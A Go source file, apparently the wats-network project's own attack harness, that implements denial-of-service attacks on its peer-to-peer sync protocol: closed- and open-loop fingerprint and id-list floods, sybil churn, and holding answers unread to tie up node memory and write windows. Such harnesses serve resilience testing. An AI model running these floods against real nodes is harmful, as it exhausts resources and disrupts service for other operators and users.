package attack

import (
	"context"
	"crypto/rand"
	"encoding/binary"
	"encoding/hex"
	"io"
	"strings"
	"time"

	"github.com/libp2p/go-libp2p/core/network"
	msmux "github.com/multiformats/go-multistream"

	"github.com/wats-network/wats/core"
	"github.com/wats-network/wats/proto"
)

// The attacks on sync by id range and its fingerprints (ADR 0052; ADR
// 0055 says what meets each). A whole-space fingerprint is the costliest
// request a peer can send for one sync token: the responder counts
// proto.MaxFingerprintIDs ids of its index.
const (
	// FingerprintFlood: IDs ids each ask for the fingerprint of the whole
	// id space from floodWorkers goroutines, each waiting for its answer
	// before it asks again (closed loop).
	FingerprintFlood = "fingerprint-flood"
	// FingerprintFloodOpen: IDs ids each ask for it as fast as they can
	// open streams, never waiting for an answer and never reading one
	// (open loop); an id keeps at most openStreams streams, resetting the
	// oldest, and dials again when the node closes its connection.
	FingerprintFloodOpen = "fingerprint-flood-open"
	// FingerprintSybil: Rate fresh ids a second each say hello, ask for
	// one whole-space fingerprint, and leave.
	FingerprintSybil = "fingerprint-sybil"
	// IDsPages: IDs ids each ask for pagesPerID pages by id range at once,
	// 256 events from a random point of the id space, and read no page:
	// an id reads the length prefix of each answer, resets a stream whose
	// answer is small (a refusal, "too busy") to ask again at once, and
	// holds one with a page unread until the node gives up on it, then
	// asks again.
	IDsPages = "ids-pages"
)

// The attacks on id lists (ADR 0057): a sync by id range with "id_list",
// answered by up to proto.MaxListIDs ids (274 KiB at proto.ListIDBytes an
// id) for one sync token and the page pool's memory, as a page. The large
// lists are of the id space from a random point (randomIDList), as long
// as the node makes them: 4,096 ids of a log of 100,000, past a stream's
// window (256 KiB), so that an answer left unread holds its write. Each
// shape is one of the fingerprints' or the pages' with these requests;
// the ids that say hello advertise the features of sync by id range
// (listsHello), as a wats node does.
const (
	// IDListsFlood: IDs ids each ask for large lists from floodWorkers
	// goroutines, each reading its answer before it asks again (closed
	// loop).
	IDListsFlood = "id-lists-flood"
	// IDListsSmall: the same with small lists, each of a 16,384th of the
	// id space from a random point (smallIDList: some 6 ids of a log of
	// 100,000), cheap to write.
	IDListsSmall = "id-lists-small"
	// IDListsOpen: IDs ids each ask for large lists as fast as they can
	// open streams and read none (open loop), as FingerprintFloodOpen.
	IDListsOpen = "id-lists-open"
	// IDListsSybil: Rate fresh ids a second each say hello, ask for one
	// large list, read it, and leave.
	IDListsSybil = "id-lists-sybil"
	// IDListsHold: IDs ids each ask for pagesPerID large lists at once and
	// hold each unread, as IDsPages holds its pages.
	IDListsHold = "id-lists-hold"
)

// Attacks on sync by id range: their own group of Attacks.
func init() {
	Attacks = append(Attacks, FingerprintFlood, FingerprintFloodOpen, FingerprintSybil, IDsPages,
		IDListsFlood, IDListsSmall, IDListsOpen, IDListsSybil, IDListsHold)
}

const (
	// floodWorkers is how many requests each id of the closed loops
	// (FingerprintFlood, IDListsFlood, IDListsSmall) has in flight.
	floodWorkers = 16
	// openStreams is how many unanswered streams an id of the open loops
	// keeps before it resets the oldest.
	openStreams = 64
	// smallAnswer is the largest answer IDsPages takes for a refusal
	// rather than a page.
	smallAnswer = 1024
)

// zeroID is the first id of the id space.
var zeroID = strings.Repeat("0", proto.IDHexLen)

// WholeFingerprint is the request for the fingerprint of the whole id
// space: the responder counts proto.MaxFingerprintIDs ids when it holds
// as many.
func WholeFingerprint() *proto.SyncRequest {
	return &proto.SyncRequest{Limit: core.MaxPageEvents, IDs: &proto.IDRange{From: zeroID}, Fingerprint: true}
}

// randomIDPage is a request for the page of 256 events from a random
// point of the id space to its end.
func randomIDPage() *proto.SyncRequest {
	b := randomID()
	return &proto.SyncRequest{Limit: core.MaxPageEvents, IDs: &proto.IDRange{From: hex.EncodeToString(b[:])}}
}

// randomIDList is a request for the ids from a random point of the id
// space to its end: as many as the node lists in one answer.
func randomIDList() *proto.SyncRequest {
	r := randomIDPage()
	r.IDList = true
	return r
}

// smallIDList is a request for the ids of a 16,384th of the id space (2^242
// ids) from a random point, to the end of the space if that is nearer: 6
// of a log of 100,000, on average.
func smallIDList() *proto.SyncRequest {
	b := randomID()
	rng := proto.IDRange{From: hex.EncodeToString(b[:])}
	if top := binary.BigEndian.Uint16(b[:2]); top < 0xffff-3 { // 2^242 is 4 in the first 16 bits
		binary.BigEndian.PutUint16(b[:2], top+4)
		rng.To = hex.EncodeToString(b[:])
	}
	return &proto.SyncRequest{Limit: core.MaxPageEvents, IDs: &rng, IDList: true}
}

// randomID is a random point of the id space.
func randomID() [32]byte {
	var b [32]byte
	_, _ = rand.Read(b[:])
	return b
}

// listsHello is the hello of an id that asks for id lists: Hello's, with
// the features of sync by id range (proto.FeatureSyncIDs,
// proto.FeatureSyncIDLists).
func (c *Conn) listsHello() *proto.Hello {
	h := c.Hello(false)
	h.Features = append(h.Features, proto.FeatureSyncIDs, proto.FeatureSyncIDLists)
	return h
}

// syncIDsAttack runs the attacks of this file; false for another name.
func syncIDsAttack(ctx context.Context, name string, t Target, o Options, st *stats) bool {
	closed := func(hello func(*Conn) *proto.Hello, ask func() *proto.SyncRequest) {
		holders(ctx, t, o.IDs, floodWorkers, 100*time.Millisecond, st, func(c *Conn) { asking(ctx, c, st, hello(c), ask) })
	}
	open := func(ask func() *proto.SyncRequest) {
		holders(ctx, t, o.IDs, 1, 100*time.Millisecond, st, func(c *Conn) { openRequests(ctx, c, st, ask) })
	}
	held := func(ask func() *proto.SyncRequest) {
		holders(ctx, t, o.IDs, pagesPerID, 200*time.Millisecond, st, func(c *Conn) { holdAnswers(ctx, c, st, ask) })
	}
	sybils := func(hello func(*Conn) *proto.Hello, ask func() *proto.SyncRequest) {
		atRate(ctx, o.Rate, 8192, func() {
			withFresh(ctx, t, st, func(dctx context.Context, c *Conn) {
				if answered(st, c, dctx, hello(c)) {
					answered(st, c, dctx, ask())
				}
			})
		})
	}
	plain := func(c *Conn) *proto.Hello { return c.Hello(false) }
	switch name {
	case FingerprintFlood:
		closed(plain, WholeFingerprint)
	case FingerprintFloodOpen:
		open(WholeFingerprint)
	case FingerprintSybil:
		sybils(plain, WholeFingerprint)
	case IDsPages:
		held(randomIDPage)
	case IDListsFlood:
		closed((*Conn).listsHello, randomIDList)
	case IDListsSmall:
		closed((*Conn).listsHello, smallIDList)
	case IDListsOpen:
		open(randomIDList)
	case IDListsSybil:
		sybils((*Conn).listsHello, randomIDList)
	case IDListsHold:
		held(randomIDList)
	default:
		return false
	}
	return true
}

// answered sends m on c, counting it, and reports whether the node
// served it (a hello or a sync answer, not a refusal or an error); the
// ids of a list served count proto.ListIDBytes each in st's bytes.
func answered(st *stats, c *Conn, ctx context.Context, m proto.Message) bool {
	st.requests.Add(1)
	resp, err := c.Request(ctx, m, nil)
	if err != nil || resp.Hello == nil && resp.Sync == nil {
		return false
	}
	st.answered.Add(1)
	if resp.Sync != nil {
		st.bytes.Add(int64(len(resp.Sync.IDs) * proto.ListIDBytes))
	}
	return true
}

// asking says hello on c, then sends the requests ask makes one after the
// other, each once the one before is answered, until c closes or ctx
// ends.
func asking(ctx context.Context, c *Conn, st *stats, hello *proto.Hello, ask func() *proto.SyncRequest) {
	answered(st, c, ctx, hello)
	for ctx.Err() == nil && !c.IsClosed() {
		answered(st, c, ctx, ask())
	}
}

// openRequests writes the requests ask makes on new streams of c as fast
// as it can, reading nothing, until c closes or ctx ends: at most
// openStreams are kept, the oldest reset to make room.
func openRequests(ctx context.Context, c *Conn, st *stats, ask func() *proto.SyncRequest) {
	var ring [openStreams]network.MuxedStream
	defer func() {
		for _, s := range ring {
			if s != nil {
				_ = s.Reset()
			}
		}
	}()
	for i := 0; ctx.Err() == nil && !c.IsClosed(); i++ {
		b, err := proto.Marshal(ask())
		if err != nil {
			return
		}
		raw, err := c.OpenRaw(ctx)
		if err != nil {
			Pause(ctx, 10*time.Millisecond)
			continue
		}
		if old := ring[i%openStreams]; old != nil {
			_ = old.Reset()
		}
		ring[i%openStreams] = raw
		st.requests.Add(1)
		st.streams.Add(1)
		if err := proto.WriteFrame(msmux.NewMSSelect(raw, proto.ID), b); err != nil {
			st.reset.Add(1)
			continue
		}
		_ = raw.CloseWrite()
	}
}

// holdAnswers asks on c for what ask makes, one stream at a time, reading
// only each answer's length prefix: a small answer (a refusal) is dropped
// and the next asked for at once (after a pause of 10 ms); a large one (a
// page, a list) is held unread for proto.ResponseTimeout and a second,
// past the longest write deadline a node gives a response, then reset. It
// runs until c closes or ctx ends.
func holdAnswers(ctx context.Context, c *Conn, st *stats, ask func() *proto.SyncRequest) {
	for ctx.Err() == nil && !c.IsClosed() {
		b, err := proto.Marshal(ask())
		if err != nil {
			return
		}
		raw, err := c.OpenRaw(ctx)
		if err != nil {
			Pause(ctx, 50*time.Millisecond)
			continue
		}
		_ = raw.SetDeadline(time.Now().Add(requestTimeout))
		st.requests.Add(1)
		n, err := answerLen(msmux.NewMSSelect(raw, proto.ID), b)
		switch {
		case err != nil:
			st.reset.Add(1)
			Pause(ctx, 50*time.Millisecond)
		case n <= smallAnswer:
			Pause(ctx, 10*time.Millisecond)
		default:
			st.answered.Add(1)
			st.streams.Add(1)
			Pause(ctx, proto.ResponseTimeout+time.Second) // reading nothing more: the node's write waits on the window
		}
		_ = raw.Reset()
	}
}

// answerLen writes request b on s and reads only the length prefix of the
// answer.
func answerLen(s io.ReadWriter, b []byte) (uint64, error) {
	if err := proto.WriteFrame(s, b); err != nil {
		return 0, err
	}
	return binary.ReadUvarint(byteReader{s})
}

// byteReader reads one byte at a time from r, for a varint read never
// past its last byte.
type byteReader struct{ r io.Reader }

func (b byteReader) ReadByte() (byte, error) {
	var one [1]byte
	_, err := io.ReadFull(b.r, one[:])
	return one[0], err
}
